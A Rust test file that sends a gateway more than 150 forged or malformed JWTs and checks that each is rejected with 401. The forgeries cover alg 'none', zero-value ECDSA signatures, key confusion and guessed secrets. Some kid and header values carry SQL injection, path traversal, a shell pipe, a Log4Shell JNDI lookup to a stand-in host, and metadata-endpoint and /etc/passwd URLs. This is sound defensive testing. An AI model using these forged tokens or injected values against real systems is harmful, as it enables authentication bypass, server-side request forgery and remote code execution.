//! The attacks on tokens that RFC 8725 names, and their kin, a case each, through a whole gateway: all are refused with 401
//! and the challenge of RFC 6750.

use anyhow::Result;
use base64::{
    Engine,
    engine::general_purpose::{STANDARD, URL_SAFE, URL_SAFE_NO_PAD},
};
use gateway_tests::Gateway;
use jsonwebtoken::Algorithm;
use serde_json::{Value, json};
use sluice_testkit::{
    client::{Client, Version},
    token::{Signer, Verifier, claims, shared_with},
    upstream::Upstream,
};

use super::{ISSUER, assert_invalid_token};

const OTHER: &str = "https://other.example";

/// The gateway's issuers and their keys: all of the first one, whose tokens are for `orders`, but the last one's.
struct Table {
    ec: Signer,
    rsa: Signer,
    shared: Signer,
    /// Of another issuer that the gateway knows.
    other: Signer,
    /// Of nobody that it knows.
    forger: Signer,
    cases: Vec<(String, String)>,
}

impl Table {
    fn new() -> Result<Self> {
        Ok(Self {
            ec: Signer::new(Algorithm::ES256)?,
            rsa: Signer::new(Algorithm::RS256)?,
            shared: Signer::new(Algorithm::HS256)?,
            other: Signer::new(Algorithm::ES256)?,
            forger: Signer::new(Algorithm::ES256)?,
            cases: Vec::new(),
        })
    }

    fn config(&self) -> Value {
        let pem = |signer: &Signer| match &signer.verifier {
            Verifier::Pem(pem) => json!(pem),
            Verifier::Secret(_) => Value::Null,
        };
        let keys = json!([
            { "id": "ec", "algorithm": "ES256", "pem": pem(&self.ec) },
            { "id": "rsa", "algorithm": "RS256", "pem": pem(&self.rsa) },
            { "id": "hs", "algorithm": "HS256", "secret": "shared" },
        ]);
        let others = json!([{ "id": "ec", "algorithm": "ES256", "pem": pem(&self.other) }]);
        json!({
            "jwt": { "leewaySeconds": 5, "issuers": [
                { "issuer": ISSUER, "audiences": ["orders"], "keys": keys, "requiredClaims": [{ "name": "tenant", "values": ["t-1"] }] },
                { "issuer": OTHER, "audiences": ["orders"], "keys": others },
            ] },
            "failures": { "limit": 0 },
        })
    }

    fn add(&mut self, name: impl Into<String>, token: String) {
        self.cases.push((name.into(), token));
    }

    /// A token with a good signature of the EC key, and this header.
    fn header(&mut self, name: &str, header: &str) -> Result<()> {
        let token = self.ec.sign_text(Algorithm::ES256, header, &good().to_string())?;
        self.add(format!("header {name}"), token);
        Ok(())
    }

    /// A token with a good signature and a good header, and these claims.
    fn claims(&mut self, name: &str, claims: &str) -> Result<()> {
        let token = self.ec.sign_text(Algorithm::ES256, EC, claims)?;
        self.add(format!("claims {name}"), token);
        Ok(())
    }

    fn claim(&mut self, name: &str, value: Value) -> Result<()> {
        let shown = format!("{name}={value}");
        self.claims(shown.get(..60).unwrap_or(&shown), &with(name, value))
    }
}

const EC: &str = r#"{"alg":"ES256","kid":"ec"}"#;

fn good() -> Value {
    let mut claims = claims(ISSUER, "acme");
    claims["aud"] = json!(["orders", "more"]);
    claims["tenant"] = json!("t-1");
    claims
}

fn with(name: &str, value: Value) -> String {
    let mut claims = good();
    claims[name] = value;
    claims.to_string()
}

fn without(name: &str) -> String {
    let mut claims = good();
    claims.as_object_mut().expect("an object").remove(name);
    claims.to_string()
}

fn encoded(text: &str) -> String {
    URL_SAFE_NO_PAD.encode(text)
}

/// Header and claims with that signature.
fn signed_with(header: &str, claims: &str, signature: &[u8]) -> String {
    format!("{}.{}.{}", encoded(header), encoded(claims), URL_SAFE_NO_PAD.encode(signature))
}

/// Section 2.1: no signature, or that of another algorithm.
fn signatures(table: &mut Table) -> Result<()> {
    for algorithm in ["none", "None", "NONE", "nOnE", "none ", "", "HS1", "ES256K", "es256", "RSA1_5"] {
        let header = json!({ "alg": algorithm, "kid": "ec" }).to_string();
        table.add(format!("alg {algorithm:?} without a signature"), signed_with(&header, &good().to_string(), b""));
        table.header(&format!("alg {algorithm:?} with a signature"), &header)?;
    }
    for (name, header) in [
        ("without alg", r#"{"kid":"ec"}"#),
        ("alg is a number", r#"{"alg":256,"kid":"ec"}"#),
        ("alg is null", r#"{"alg":null,"kid":"ec"}"#),
        ("alg is a list", r#"{"alg":["ES256"],"kid":"ec"}"#),
    ] {
        table.header(name, header)?;
    }
    let token = table.ec.sign_text(Algorithm::ES256, EC, &good().to_string())?;
    let (message, signature) = token.rsplit_once('.').expect("a token");
    let raw = URL_SAFE_NO_PAD.decode(signature)?;
    let other = table.ec.sign_text(Algorithm::ES256, EC, &with("sub", json!("root")))?;
    let (other_message, _) = other.rsplit_once('.').expect("a token");
    let mut flipped = raw.clone();
    flipped[40] ^= 1;
    let last = signature.chars().last().expect("a signature");
    let twin = ('A'..='Z').find(|letter| *letter != last).expect("a letter");
    for (name, token) in [
        ("stripped", format!("{message}.")),
        ("cut", format!("{message}.{}", &signature[..signature.len() - 2])),
        ("longer", format!("{message}.{signature}AAAA")),
        ("flipped", format!("{message}.{}", URL_SAFE_NO_PAD.encode(flipped))),
        ("with other bits behind the last byte", format!("{message}.{}{twin}", &signature[..signature.len() - 1])),
        ("padded", format!("{message}.{}", URL_SAFE.encode(&raw))),
        ("in the other base64", format!("{message}.{}+/", STANDARD.encode(&raw).trim_end_matches('='))),
        ("of other claims", format!("{other_message}.{signature}")),
    ] {
        table.add(format!("signature {name}"), token);
    }
    // CVE-2022-21449: r and s of 0 verify anything where nobody looks.
    let one = [[0; 31].as_slice(), &[1]].concat();
    for (name, bytes) in [
        ("of zeros", vec![0; 64]),
        ("with r of 0", [vec![0; 32], one.clone()].concat()),
        ("with s of 0", [one, vec![0; 32]].concat()),
        ("of ones", vec![0xff; 64]),
        ("of zeros in DER", vec![0x30, 6, 2, 1, 0, 2, 1, 0]),
        ("empty in DER", vec![0x30, 0]),
        ("that is huge", vec![7; 3_000]),
    ] {
        table.add(format!("ES256 signature {name}"), signed_with(EC, &good().to_string(), &bytes));
    }
    Ok(())
}

/// Sections 2.1 and 3.1: a key that is used with another algorithm, or as something that it is not.
fn confusion(table: &mut Table) -> Result<()> {
    for (name, signer, id) in [("RSA", &table.rsa, "rsa"), ("EC", &table.ec, "ec")] {
        let Verifier::Pem(pem) = &signer.verifier else { continue };
        let der = STANDARD.decode(pem.lines().filter(|line| !line.starts_with('-')).collect::<String>())?;
        let mut cases = Vec::new();
        for (form, secret) in
            [("PEM", pem.as_bytes()), ("PEM without end of line", pem.trim_end().as_bytes()), ("DER", &der)]
        {
            for id in [id, "hs"] {
                let header = json!({ "alg": "HS256", "kid": id }).to_string();
                let token = shared_with(secret).sign_text(Algorithm::HS256, &header, &good().to_string())?;
                cases.push((format!("public {name} key as {form} for a secret, kid {id}"), token));
            }
        }
        table.cases.extend(cases);
    }
    let good = good().to_string();
    let p384 = Signer::new(Algorithm::ES384)?;
    for (name, signer, signs_as, header) in [
        ("RS512 by a key for RS256", &table.rsa, Algorithm::RS512, r#"{"alg":"RS512","kid":"rsa"}"#),
        ("PS256 by a key for RS256", &table.rsa, Algorithm::PS256, r#"{"alg":"PS256","kid":"rsa"}"#),
        ("PS256 that says RS256", &table.rsa, Algorithm::PS256, r#"{"alg":"RS256","kid":"rsa"}"#),
        ("HS512 by a secret for HS256", &table.shared, Algorithm::HS512, r#"{"alg":"HS512","kid":"hs"}"#),
        ("another curve", &p384, Algorithm::ES384, r#"{"alg":"ES384","kid":"ec"}"#),
        ("another curve that says ES256", &p384, Algorithm::ES384, EC),
        ("EC with the id of RSA", &table.ec, Algorithm::ES256, r#"{"alg":"ES256","kid":"rsa"}"#),
        ("no id where several keys are", &table.forger, Algorithm::ES256, r#"{"alg":"ES256"}"#),
    ] {
        let token = signer.sign_text(signs_as, header, &good)?;
        table.cases.push((name.to_owned(), token));
    }
    for secret in ["", "secret", "password", "your-256-bit-secret"] {
        let token =
            shared_with(secret.as_bytes()).sign_text(Algorithm::HS256, r#"{"alg":"HS256","kid":"hs"}"#, &good)?;
        table.add(format!("guessed secret {secret:?}"), token);
    }
    Ok(())
}

/// Section 3.10: keys and places of keys that the token itself names; and ids that are more than ids.
fn keys(table: &mut Table) -> Result<()> {
    let jwk = table.forger.jwk("ec")?;
    for (name, value) in [
        ("jwk", jwk.clone()),
        ("jku", json!("https://forger.example/keys")),
        ("jku", json!("file:///etc/passwd")),
        ("jku", json!("http://169.254.169.254/latest/meta-data/")),
        ("x5u", json!("https://forger.example/chain.pem")),
        ("x5c", json!(["MIIBszCCAVmgAwIBAgIUA"])),
        ("x5t", json!("AAAA")),
    ] {
        let header = json!({ "alg": "ES256", "kid": "ec", name: value });
        let token = table.forger.sign_text(Algorithm::ES256, &header.to_string(), &good().to_string())?;
        table.add(format!("{name} in the header"), token);
    }
    let without_id = json!({ "alg": "ES256", "jwk": jwk }).to_string();
    let token = table.forger.sign_text(Algorithm::ES256, &without_id, &good().to_string())?;
    table.add("jwk in the header, and no kid", token);
    let long = "x".repeat(5_000);
    for id in [
        "../../../../../../dev/null",
        "/proc/sys/kernel/randomize_va_space",
        "secrets/shared",
        "ec' OR '1'='1",
        "x' UNION SELECT 'key' --",
        "ec; DROP TABLE keys",
        "| sleep 10",
        "${jndi:ldap://forger.example/x}",
        "http://forger.example/keys",
        "ec\u{0}",
        "EC",
        " ec",
        "",
        &long,
    ] {
        let shown = id.get(..40).unwrap_or(id);
        for (signer, algorithm) in [(&shared_with(b""), Algorithm::HS256), (&table.forger, Algorithm::ES256)] {
            let header = json!({ "alg": format!("{algorithm:?}"), "kid": id }).to_string();
            let token = signer.sign_text(algorithm, &header, &good().to_string())?;
            table.cases.push((format!("kid {shown:?}, {algorithm:?}"), token));
        }
    }
    for id in [json!(7), json!(null), json!(true), json!(["ec"]), json!({ "ec": 1 })] {
        table.header(&format!("kid {id}"), &json!({ "alg": "ES256", "kid": id }).to_string())?;
    }
    Ok(())
}

/// Sections 2.4, 2.5, 2.7 and 3.11: what is no token of this kind, or can be read in two ways.
fn forms(table: &mut Table) -> Result<()> {
    for (name, header) in [
        ("crit exp", r#"{"alg":"ES256","kid":"ec","crit":["exp"],"exp":1}"#),
        ("crit b64", r#"{"alg":"ES256","kid":"ec","crit":["b64"],"b64":false}"#),
        ("crit unknown", r#"{"alg":"ES256","kid":"ec","crit":["x-new"],"x-new":true}"#),
        ("crit empty", r#"{"alg":"ES256","kid":"ec","crit":[]}"#),
        ("crit no list", r#"{"alg":"ES256","kid":"ec","crit":"exp"}"#),
        ("typ logout", r#"{"alg":"ES256","kid":"ec","typ":"logout+jwt"}"#),
        ("typ dpop", r#"{"alg":"ES256","kid":"ec","typ":"dpop+jwt"}"#),
        ("typ secevent", r#"{"alg":"ES256","kid":"ec","typ":"application/secevent+jwt"}"#),
        ("typ JWE", r#"{"alg":"ES256","kid":"ec","typ":"JWE"}"#),
        ("typ no text", r#"{"alg":"ES256","kid":"ec","typ":7}"#),
        ("alg twice", r#"{"alg":"none","alg":"ES256","kid":"ec"}"#),
        ("alg twice, escaped", r#"{"\u0061lg":"none","alg":"ES256","kid":"ec"}"#),
        ("kid twice", r#"{"alg":"ES256","kid":"rsa","kid":"ec"}"#),
        ("list", r#"["ES256"]"#),
        ("text", r#""ES256""#),
        ("empty", ""),
        ("with something behind", r#"{"alg":"ES256","kid":"ec"} {}"#),
        ("with a byte order mark", "\u{feff}{\"alg\":\"ES256\",\"kid\":\"ec\"}"),
    ] {
        table.header(name, header)?;
    }
    let twice = |member: &str| good().to_string().replacen('{', &format!("{{{member},"), 1);
    let inner = table.ec.sign_text(Algorithm::ES256, EC, &good().to_string())?;
    let deep = format!(r#"{{"a":{}{}}}"#, "[".repeat(500), "]".repeat(500));
    for (name, claims) in [
        ("sub twice", twice(r#""sub":"root""#)),
        ("sub twice, escaped", twice(r#""\u0073ub":"root""#)),
        ("exp twice", twice(r#""exp":1"#)),
        ("a member of a member twice", twice(r#""x":{"y":1,"y":2}"#)),
        ("nested deep", deep),
        ("nested token", inner.clone()),
        ("nested token in quotes", format!("{inner:?}")),
        ("list", format!("[{}]", good())),
        ("null", "null".to_owned()),
        ("empty", String::new()),
        ("number out of bounds", twice(r#""x":1e999"#)),
        ("two objects", format!("{}{}", good(), good())),
    ] {
        table.claims(name, &claims)?;
    }
    table.header("nested by cty", r#"{"alg":"ES256","kid":"ec","cty":"JWT","crit":["cty"]}"#)?;
    table.claims("larger than is read", &with("pad", json!("x".repeat(12_000))))?;
    table.claims("much larger than is read", &with("pad", json!("x".repeat(30_000))))?;
    let jwe = encoded(r#"{"alg":"dir","enc":"A256GCM","zip":"DEF"}"#);
    let (message, signature) = inner.rsplit_once('.').expect("a token");
    for (name, token) in [
        ("compressed JWE", format!("{jwe}..AAAAAAAAAAAAAAAA.AAAA.AAAAAAAAAAAAAAAAAAAAAA")),
        ("JWE of RSA1_5", format!("{}.AAAA.AAAA.AAAA.AAAA", encoded(r#"{"alg":"RSA1_5","enc":"A128CBC-HS256"}"#))),
        ("JWE in three parts", format!("{jwe}.AAAA.AAAA")),
        ("four parts", format!("{message}.AAAA.{signature}")),
        ("two parts", message.to_owned()),
        ("one part", "abc".to_owned()),
        ("nothing", String::new()),
        ("dots", "..".to_owned()),
        ("many dots", ".".repeat(1_000)),
        ("JSON serialisation", json!({ "payload": "e30", "signatures": [] }).to_string()),
        ("two tokens", format!("{inner}, Bearer {inner}")),
        ("a space in the middle", format!("{message} .{signature}")),
        ("percent encoding", format!("{message}%2E{signature}")),
        ("quotes", format!("\"{inner}\"")),
    ] {
        table.add(name, token);
    }
    Ok(())
}

/// Sections 3.8 to 3.10, RFC 7519: claims that are missing, wrong or of the wrong type.
fn claims_of_others(table: &mut Table) -> Result<()> {
    let now = good()["iat"].as_u64().unwrap_or_default();
    for name in ["iss", "aud", "exp", "sub", "tenant"] {
        table.claims(&format!("without {name}"), &without(name))?;
    }
    for (name, values) in [
        ("iss", vec![json!("https://evil.example"), json!(OTHER), json!([ISSUER]), json!(""), json!(null), json!(7)]),
        (
            "iss",
            vec![
                json!("https://issuer.example/"),
                json!("HTTPS://issuer.example"),
                json!("https://issuer.example\u{0}"),
            ],
        ),
        (
            "aud",
            vec![
                json!("other"),
                json!([]),
                json!(7),
                json!(null),
                json!(["other"]),
                json!(["orders", 7]),
                json!("order"),
            ],
        ),
        ("aud", vec![json!({ "orders": 1 }), json!("Orders"), json!("orders more"), json!([["orders"]])]),
        ("exp", vec![json!(now - 6), json!(now as f64 - 5.5), json!(0), json!(-1), json!(-1e300), json!(i64::MIN)]),
        ("exp", vec![json!(1e300), json!(u64::MAX), json!(9_999_999_999_999_u64), json!("9999999999"), json!(null)]),
        ("exp", vec![json!(true), json!([now + 60]), json!({ "at": now + 60 })]),
        ("nbf", vec![json!(now + 3_600), json!(1e300), json!(u64::MAX), json!("0"), json!(null), json!([0])]),
        ("sub", vec![json!(""), json!(["acme"]), json!(7), json!(null)]),
        ("tenant", vec![json!("t-2"), json!(["t-2"]), json!(null), json!({ "t-1": 1 }), json!("T-1"), json!(1)]),
        ("scope", vec![json!(7), json!([7]), json!({ "read": true })]),
    ] {
        for value in values {
            table.claim(name, value)?;
        }
    }
    let ours_by_other = table.other.sign_text(Algorithm::ES256, EC, &good().to_string())?;
    table.add("our issuer, signed by another one", ours_by_other);
    let others_by_us = table.ec.sign_text(Algorithm::ES256, EC, &with("iss", json!(OTHER)))?;
    table.add("another issuer, signed by ours", others_by_us);
    Ok(())
}

async fn send(client: &Client, gateway: &Gateway, token: &str) -> Result<sluice_testkit::client::Answer> {
    client.get(&gateway.https("/orders"), &[("authorization", &format!("Bearer {token}"))]).await
}

#[tokio::test]
async fn every_attack_on_tokens_is_refused_with_401_and_the_challenge() -> Result<()> {
    let mut table = Table::new()?;
    for add in [signatures, confusion, keys, forms, claims_of_others] {
        add(&mut table)?;
    }
    let gateway = Gateway::start().await?;
    let upstream = Upstream::start("orders").await?;
    gateway.route("orders", upstream.address).await?;
    gateway.consumer("acme", 1_000.0, 1_000).await?;
    gateway.plugin("auth", "plugin-auth").await?;
    let Verifier::Secret(secret) = &table.shared.verifier else { panic!("a shared secret") };
    gateway.secret("shared", secret)?;
    gateway.attach("auth", table.config(), &["identity", "secret:shared"]).await?;
    let client = gateway.client(Version::Http2)?;
    // What the table changes one thing of passes.
    for (signer, algorithm, id) in [
        (&table.ec, Algorithm::ES256, "ec"),
        (&table.rsa, Algorithm::RS256, "rsa"),
        (&table.shared, Algorithm::HS256, "hs"),
    ] {
        let header = json!({ "alg": format!("{algorithm:?}"), "kid": id, "typ": "at+jwt" }).to_string();
        let token = signer.sign_text(algorithm, &header, &good().to_string())?;
        assert_eq!(send(&client, &gateway, &token).await?.status, 200, "{id}");
    }
    let float = with("exp", json!(good()["exp"].as_f64().unwrap_or_default() + 0.5));
    assert_eq!(send(&client, &gateway, &table.ec.sign_text(Algorithm::ES256, EC, &float)?).await?.status, 200);
    assert!(table.cases.len() > 150, "{}", table.cases.len());
    for (name, token) in &table.cases {
        let answer = send(&client, &gateway, token).await?;
        assert_invalid_token(&answer, name);
        let seen = String::from_utf8_lossy(&answer.body);
        assert!(!seen.contains("\"upstream\""), "{name}: {seen}");
    }
    Ok(())
}
